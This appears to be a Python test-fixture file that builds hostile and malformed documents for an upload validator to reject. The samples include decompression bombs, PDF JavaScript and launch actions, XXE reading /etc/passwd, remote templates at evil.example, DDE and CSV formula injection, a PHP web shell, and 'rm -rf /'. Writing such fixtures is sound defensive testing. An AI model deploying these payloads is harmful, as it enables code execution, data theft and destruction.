"""Files that mean harm, or are broken in ways that harm whoever opens them: each with its name, its content
and why it is refused."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from tests.documents import files

PDF = files.empty_pdf()
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XML = '<?xml version="1.0" encoding="UTF-8"?>'
WORD_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
EPUB = "application/epub+zip"


# --- PDF ------------------------------------------------------------------------


def pdf_with_stream(content: bytes, filters: bytes = b"/FlateDecode", extra: bytes = b"") -> bytes:
    """A PDF of one page whose content is `content`, taken as packed by `filters`."""
    return pdf_with_streams([content], filters, extra)


def pdf_with_streams(contents: list[bytes], filters: bytes = b"/FlateDecode", extra: bytes = b"") -> bytes:
    return files._assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            *(
                b"<< /Length %d /Filter %s %s>>\nstream\n%s\nendstream"
                % (len(content), filters, extra, content)
                for content in contents
            ),
        ]
    )


def packed(size: int, times: int = 1) -> bytes:
    """So many zeros, packed again and again."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


OBJECTS = b"/Type /ObjStm /N 1 /First 4 "
SCRIPT = b"1 0 << /S /Java#53cript /JS (app.alert(1)) >>"


def object_stream_bomb() -> bytes:
    return pdf_with_stream(packed(128 << 20), extra=OBJECTS)


def hidden_filter_bomb() -> bytes:
    """Packed twice, with the filters named where nobody looks: in another object, by another spelling."""
    return pdf_with_stream(packed(64 << 20, 2), filters=b"5 0 R")


def opening_pdf(action: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    acts = DictionaryObject(
        {NameObject("/S"): NameObject(action), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    writer._root_object[NameObject("/OpenAction")] = acts
    return files._written(writer)


def packed_script_pdf(before: bytes = b"", extra: bytes = b"") -> bytes:
    """The script is in an object stream, under another spelling."""
    return pdf_with_stream(zlib.compress(before + SCRIPT), extra=OBJECTS + extra)


def oddly_packed_script_pdf(filters: bytes) -> bytes:
    """By hexadecimal digits, which no search for words finds."""
    return pdf_with_stream(SCRIPT.hex().encode() + b">", filters, OBJECTS)


def pdf_with_attachment(content: bytes) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    stream = DecodedStreamObject()
    stream.set_data(content)
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    writer._add_object(stream.flate_encode())
    return files._written(writer)


def cyclic_pdf() -> bytes:
    """The tree of its pages bites its own tail."""
    return files._assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 2147483647 /Kids [2 0 R 2 0 R] >>",
        ]
    )


def nested_pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\nstartxref\n0\n%%EOF"


# --- Archives ----------------------------------------------------------------------


def repeated(content: bytes, name: str = "word/extra.bin") -> bytes:
    return files.docx(**{name.replace("/", "__"): content})


def overlapping() -> bytes:
    """Two thousand entries that all unpack the same megabyte."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", files.content_types())
        archive.writestr("word/document.xml", bytes(1 << 20))
        first = archive.infolist()[1]
        for number in range(2000):
            entry = zipfile.ZipInfo(f"word/{number}.xml")
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type", "flag_bits"):
                setattr(entry, name, getattr(first, name))
            archive.filelist.append(entry)
    return buffer.getvalue()


def lying() -> bytes:
    """Its list says that a part of 50 MB has 100 bytes."""
    honest = files.docx(word__media__x=bytes(9 << 20))
    place = honest.rindex(b"PK\x01\x02", 0, honest.rindex(b"word/media/x"))
    return honest[: place + 24] + struct.pack("<I", 100) + honest[place + 28 :]


def locked_entry() -> bytes:
    content = bytearray(files.docx())
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def twice_the_same_part() -> bytes:
    buffer = io.BytesIO(files.docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/Document.xml", "x")
    return buffer.getvalue().replace(b"word/Document.xml", b"word/document.xml")


def bomb_within(depth: int = 6) -> bytes:
    content = files.docx()
    for _ in range(depth):
        content = files.docx(word__embeddings__a_docx=content)
    return content


def external(kind: str, target: str, quote: str = '"') -> bytes:
    relation = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    link = f'<Relationship Id="r1" Type="{relation}" Target="{target}" TargetMode="External"/>'
    link = link.replace('"', quote)
    return files.docx(**{"word___rels__settings.xml.rels": f"<Relationships>{link}</Relationships>"})


def office_xml(document: str) -> bytes:
    return files.archive({"[Content_Types].xml": files.content_types(), "word/document.xml": document})


LAUGHS = '<!DOCTYPE x [<!ENTITY a "goat"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LOCK = '<encryption><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/></encryption>'
MACRO_SHEET = (
    '<Override PartName="/xl/x.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
)


# --- Pictures ----------------------------------------------------------------------


def png_with_text_bomb() -> bytes:
    """A picture with a comment that grows a thousandfold."""
    body = b"zTXt" + b"goats\0\0" + zlib.compress(bytes(80 << 20), 9)
    chunk = struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    picture = files.png()
    return picture[:33] + chunk + picture[33:]


def svg_bomb() -> bytes:
    entities = LAUGHS[LAUGHS.index("[") : LAUGHS.index("]") + 1]
    return f'<?xml version="1.0"?><!DOCTYPE svg {entities}><svg xmlns="x"><text>&b;</text></svg>'.encode()


# What takes long to make is made when it is asked for.
REFUSED: dict[str, tuple[str, bytes | Callable[[], bytes], str | tuple[str, ...]]] = {
    "nothing at all": ("a.pdf", b"", "empty"),
    "blanks only": ("a.txt", b" \r\n\t ", "empty"),
    "a byte order mark only": ("a.txt", b"\xef\xbb\xbf", "empty"),
    # PDF
    "a PDF under a password": ("a.pdf", files.encrypted_pdf(), "locked"),
    "a PDF without a page": ("a.pdf", files.empty_pdf(pages=0), "broken"),
    "half a PDF": ("a.pdf", files.big_pdf(200)[:9000], "cut"),
    "a PDF in name and first bytes only": ("a.pdf", b"%PDF-1.7\nstartxref\n0\n%%EOF", "broken"),
    "a PDF with rubbish inside": ("a.pdf", b"%PDF-1.4" + b"\xff<<[(" * 20_000 + b"startxref 5", "broken"),
    "a PDF nested without end": ("a.pdf", nested_pdf(), "broken"),
    "a PDF whose pages bite their tail": ("a.pdf", cyclic_pdf(), ("broken", "bomb")),
    "a PDF with a bomb for a page": ("a.pdf", lambda: pdf_with_stream(packed(128 << 20)), "bomb"),
    "a PDF packed twice": (
        "a.pdf", lambda: pdf_with_stream(packed(64 << 20, 2), b"[/FlateDecode /Fl]"), "bomb",
    ),
    "a PDF packed twice in hiding": ("a.pdf", hidden_filter_bomb, "bomb"),
    "a PDF with spelt-out filters": (
        "a.pdf", lambda: pdf_with_stream(packed(64 << 20, 2), b"[/Fl#61teDecode/FlateDecode]"), "bomb",
    ),
    "a PDF with a bomb for its objects": ("a.pdf", object_stream_bomb, "bomb"),
    "a PDF that runs a script": ("a.pdf", opening_pdf("/JavaScript"), "scripts"),
    "a PDF that runs a script in hiding": ("a.pdf", packed_script_pdf(), "scripts"),
    "a PDF that runs a script behind much else": (
        "a.pdf", lambda: packed_script_pdf(b" " * (5 << 20)), "scripts",
    ),
    "a PDF that runs a script far from its name": (
        "a.pdf", packed_script_pdf(extra=b" " * 5000), "scripts",
    ),
    "a PDF that runs a script behind a blank": (
        "a.pdf", packed_script_pdf().replace(b"\nstream\n", b"\nstream \n"), "scripts",
    ),
    "a PDF that runs a script in digits": ("a.pdf", oddly_packed_script_pdf(b"/ASCIIHexDecode"), "scripts"),
    "a PDF that runs a script in digits, unsaid": ("a.pdf", oddly_packed_script_pdf(b"5 0 R"), "scripts"),
    "a PDF that runs a script as differences": (
        "a.pdf", packed_script_pdf(extra=b"/DecodeParms << /Predictor 12 /Columns 9 >> "), "scripts",
    ),
    "a PDF that starts a program": ("a.pdf", opening_pdf("/Launch"), "scripts"),
    "a PDF with a program attached": ("a.pdf", pdf_with_attachment(b"MZ" + bytes(500)), "inside"),
    "a PDF with an archive attached": ("a.pdf", pdf_with_attachment(files.archive({"a": "MZ"})), "inside"),
    "a PDF and an archive": ("a.pdf", PDF + files.archive({"goats.exe": "MZ"}), "polyglot"),
    "a PDF and a page": ("a.pdf", PDF + b"<script>alert(1)</script>" * 100, "polyglot"),
    "a PDF behind something else": ("a.txt", b"Goats\n" + PDF, "polyglot"),
    "a PDF within an archive's first entry": (
        "a.docx", files.archive({"a.pdf": b""})[:35] + PDF + files.docx(), "polyglot",
    ),
    # Programs
    "a program called PDF": ("a.pdf", b"MZ\x90\0\x03\0\0\0" + b"\0" * 500, "program"),
    "a Linux program": ("a", b"\x7fELF\x02\x01\x01\0" + b"\0" * 100, "program"),
    "a Java class": ("a.txt", b"\xca\xfe\xba\xbe\0\0\x004" + b"\0" * 40, "program"),
    "a shortcut": ("a.pdf", b"L\0\0\0\x01\x14\x02\0\0\0" + b"\0" * 60, "program"),
    "a script": ("a.txt", b"#!/bin/sh\nrm -rf /\n", "program"),
    "a script after a byte order mark": ("a.txt", b"\xef\xbb\xbf#!/usr/bin/env python\n", "program"),
    "a batch file": ("goats.bat", b"@echo off\r\nformat c:\r\n", "mismatch-txt"),
    # Pages and drawings
    "a page called PDF": ("a.pdf", b"<html><script>alert(1)</script>", "web"),
    "a page called text, after a byte order mark": ("a.txt", b"\xef\xbb\xbf \n<!DOCTYPE HTML>", "web"),
    "a page in UTF-16": ("a.txt", "<html>".encode("utf-16"), "web"),
    "a page behind a comment": ("a.txt", b"<!-- goats --><img src=x onerror=alert(1)>", "web"),
    "a PHP page": ("a.txt", b"<?php system($_GET['a']);", "unknown"),
    "a web archive": ("a.txt", b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>", "unknown"),
    "a rich text": ("a.txt", b"{\\rtf1{\\object\\objocx}}", "unknown"),
    "a drawing with a script": ("a.svg", SVG, "web"),
    "a drawing called PNG": ("a.png", SVG, "web"),
    "a drawing with entities": ("a.svg", svg_bomb(), "unsafe"),
    # Names that lie
    "a PDF called Word": ("a.docx", PDF, "mismatch-pdf"),
    "Word called PDF": ("a.pdf", files.docx(), "mismatch-docx"),
    "a PDF that ends as a program": ("report.pdf.exe", PDF, "mismatch-pdf"),
    "text called HTML": ("a.html", b"Goats give milk", "mismatch-txt"),
    # Office
    "Word with macros": ("a.docx", files.macro_docx(), "macros"),
    "Word with macros by its type": ("a.docx", files.macro_enabled_docx(), "macros"),
    "Word with controls": ("a.docx", repeated(b"x", "word/activeX/activeX1.xml"), "macros"),
    "Word with a template from elsewhere": (
        "a.docx", external("attachedTemplate", "https://evil.example/a.dotm"), "macros",
    ),
    "Word with a template from another machine": (
        "a.docx", external("attachedTemplate", r"\\evil.example\a.dotm"), "macros",
    ),
    "Word with a template in other quotes": (
        "a.docx", external("attachedTemplate", "https://evil.example/a.dotm", "'"), "macros",
    ),
    "Word with a template in other letters": (
        "a.docx", external("attachedTemplate", "&#104;&#x54;tps://evil.example/a.dotm"), "macros",
    ),
    "Word with an object from elsewhere": (
        "a.docx", external("oleObject", "mhtml:https://evil.example/a.html!x-usc:"), "macros",
    ),
    "Word that starts a program by a field": (
        "a.docx", office_xml(f'<w:x xmlns:w="{WORD_SPACE}">DDEAUTO c:\\\\windows\\\\cmd.exe</w:x>'), "macros",
    ),
    "Word with a program inside": ("a.docx", repeated(b"MZ" + bytes(99), "word/media/image1.png"), "inside"),
    "Word with a program by name": ("a.docx", repeated(b"echo", "word/embeddings/a.cmd"), "inside"),
    "Word with a package of anything": (
        "a.docx", repeated("..Ole10Native".encode("utf-16-le"), "word/embeddings/ole.bin"), "inside",
    ),
    "Word with an archive inside": (
        "a.docx", repeated(files.archive({"a.txt": "goats"}), "word/media/a.bin"), "inside",
    ),
    "Word with macros in a table inside": (
        "a.docx", repeated(files.macro_docx(), "word/embeddings/a.docx"), "macros",
    ),
    "Word within Word within Word": ("a.docx", bomb_within, "bomb"),
    "Word with entities": ("a.docx", files.entity_bomb(), "unsafe"),
    "Word that reads other files": ("a.docx", office_xml(OUTSIDE), "unsafe"),
    "Word with entities in UTF-16": ("a.docx", repeated(LAUGHS.encode("utf-16"), "word/a.xml"), "unsafe"),
    "Word under a password": ("a.docx", files.locked_office(), "locked"),
    "Word with a locked part": ("a.docx", locked_entry(), "locked"),
    "old Word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old-office"),
    "Excel with macros in another form": (
        "a.xlsx", files.archive({"[Content_Types].xml": f"<Types>{MACRO_SHEET}</Types>"}), "macros",
    ),
    "OpenDocument with macros": ("a.odt", files.open_document("odt", Basic__Standard__a_xml="x"), "macros"),
    "OpenDocument with a script's address": (
        "a.ods", files.open_document("ods", styles_xml='<x href="vnd.sun.star.script:a"/>', **{"a.xml": "macro:///b"}),
        "macros",
    ),
    "OpenDocument under a password": (
        "a.odt", files.open_document("odt", **{"META-INF/manifest.xml": "<m:encryption-data/>"}), "locked",
    ),
    "OpenDocument with entities": ("a.odp", files.open_document("odp", **{"meta.xml": LAUGHS}), "unsafe"),
    "a locked EPUB": (
        "a.epub", files.archive({"mimetype": EPUB, "META-INF/encryption.xml": LOCK}), "locked",
    ),
    "an EPUB with entities": (
        "a.epub", files.archive({"mimetype": EPUB, "a.xhtml": LAUGHS}), "unsafe",
    ),
    # Archives
    "a bomb called Word": ("a.docx", files.zip_bomb, "bomb"),
    "too many entries": ("a.docx", lambda: files.archive({f"{n}": "" for n in range(5_001)}), "bomb"),
    "entries that share their bytes": ("a.docx", overlapping, "bomb"),
    "a part larger than it says": ("a.docx", lying, "broken"),
    "a part that is there twice": ("a.docx", twice_the_same_part(), "polyglot"),
    "half an archive": ("a.docx", files.docx()[:200], "cut"),
    "an archive with something behind it": ("a.docx", files.docx() + b"<script>" * 100, ("polyglot", "cut")),
    "any archive": ("a.zip", files.archive({"goats.txt": "milk"}), "archive"),
    "an archive called Word": ("a.docx", files.archive({"goats.txt": "milk"}), "archive"),
    "another archive": ("a.gz", b"\x1f\x8b\x08\0\0\0\0\0", "archive"),
    # Pictures
    "half a picture": ("a.png", files.png(50, 50)[:40], "broken"),
    "a picture as large as a field": ("a.png", lambda: files.png(40_000, 30_000), "bomb"),
    "a picture with a comment that swells": ("a.png", png_with_text_bomb, "broken"),
    "a picture and an archive": ("a.png", files.png() + files.archive({"a.exe": "MZ"}), "polyglot"),
    "a picture and a page": ("a.png", files.png() + b"<?php system($_GET[0]); ?>", "polyglot"),
    # The rest
    "a table that starts a program": ("a.csv", b"goats,=cmd|' /C calc'!A0\n", "macros"),
    "a large table that starts a program": (
        "a.csv", b"goats,12\n" * ((1 << 20) // 9) + b"1,=cmd|' /C calc'!A0\n", "macros",
    ),
    "bytes": ("a.txt", bytes(range(256)) * 40, "unknown"),
    "a film": ("a.mp4", b"\0\0\0\x18ftypmp42" + b"\0" * 100, "unknown"),
}  # fmt: skip
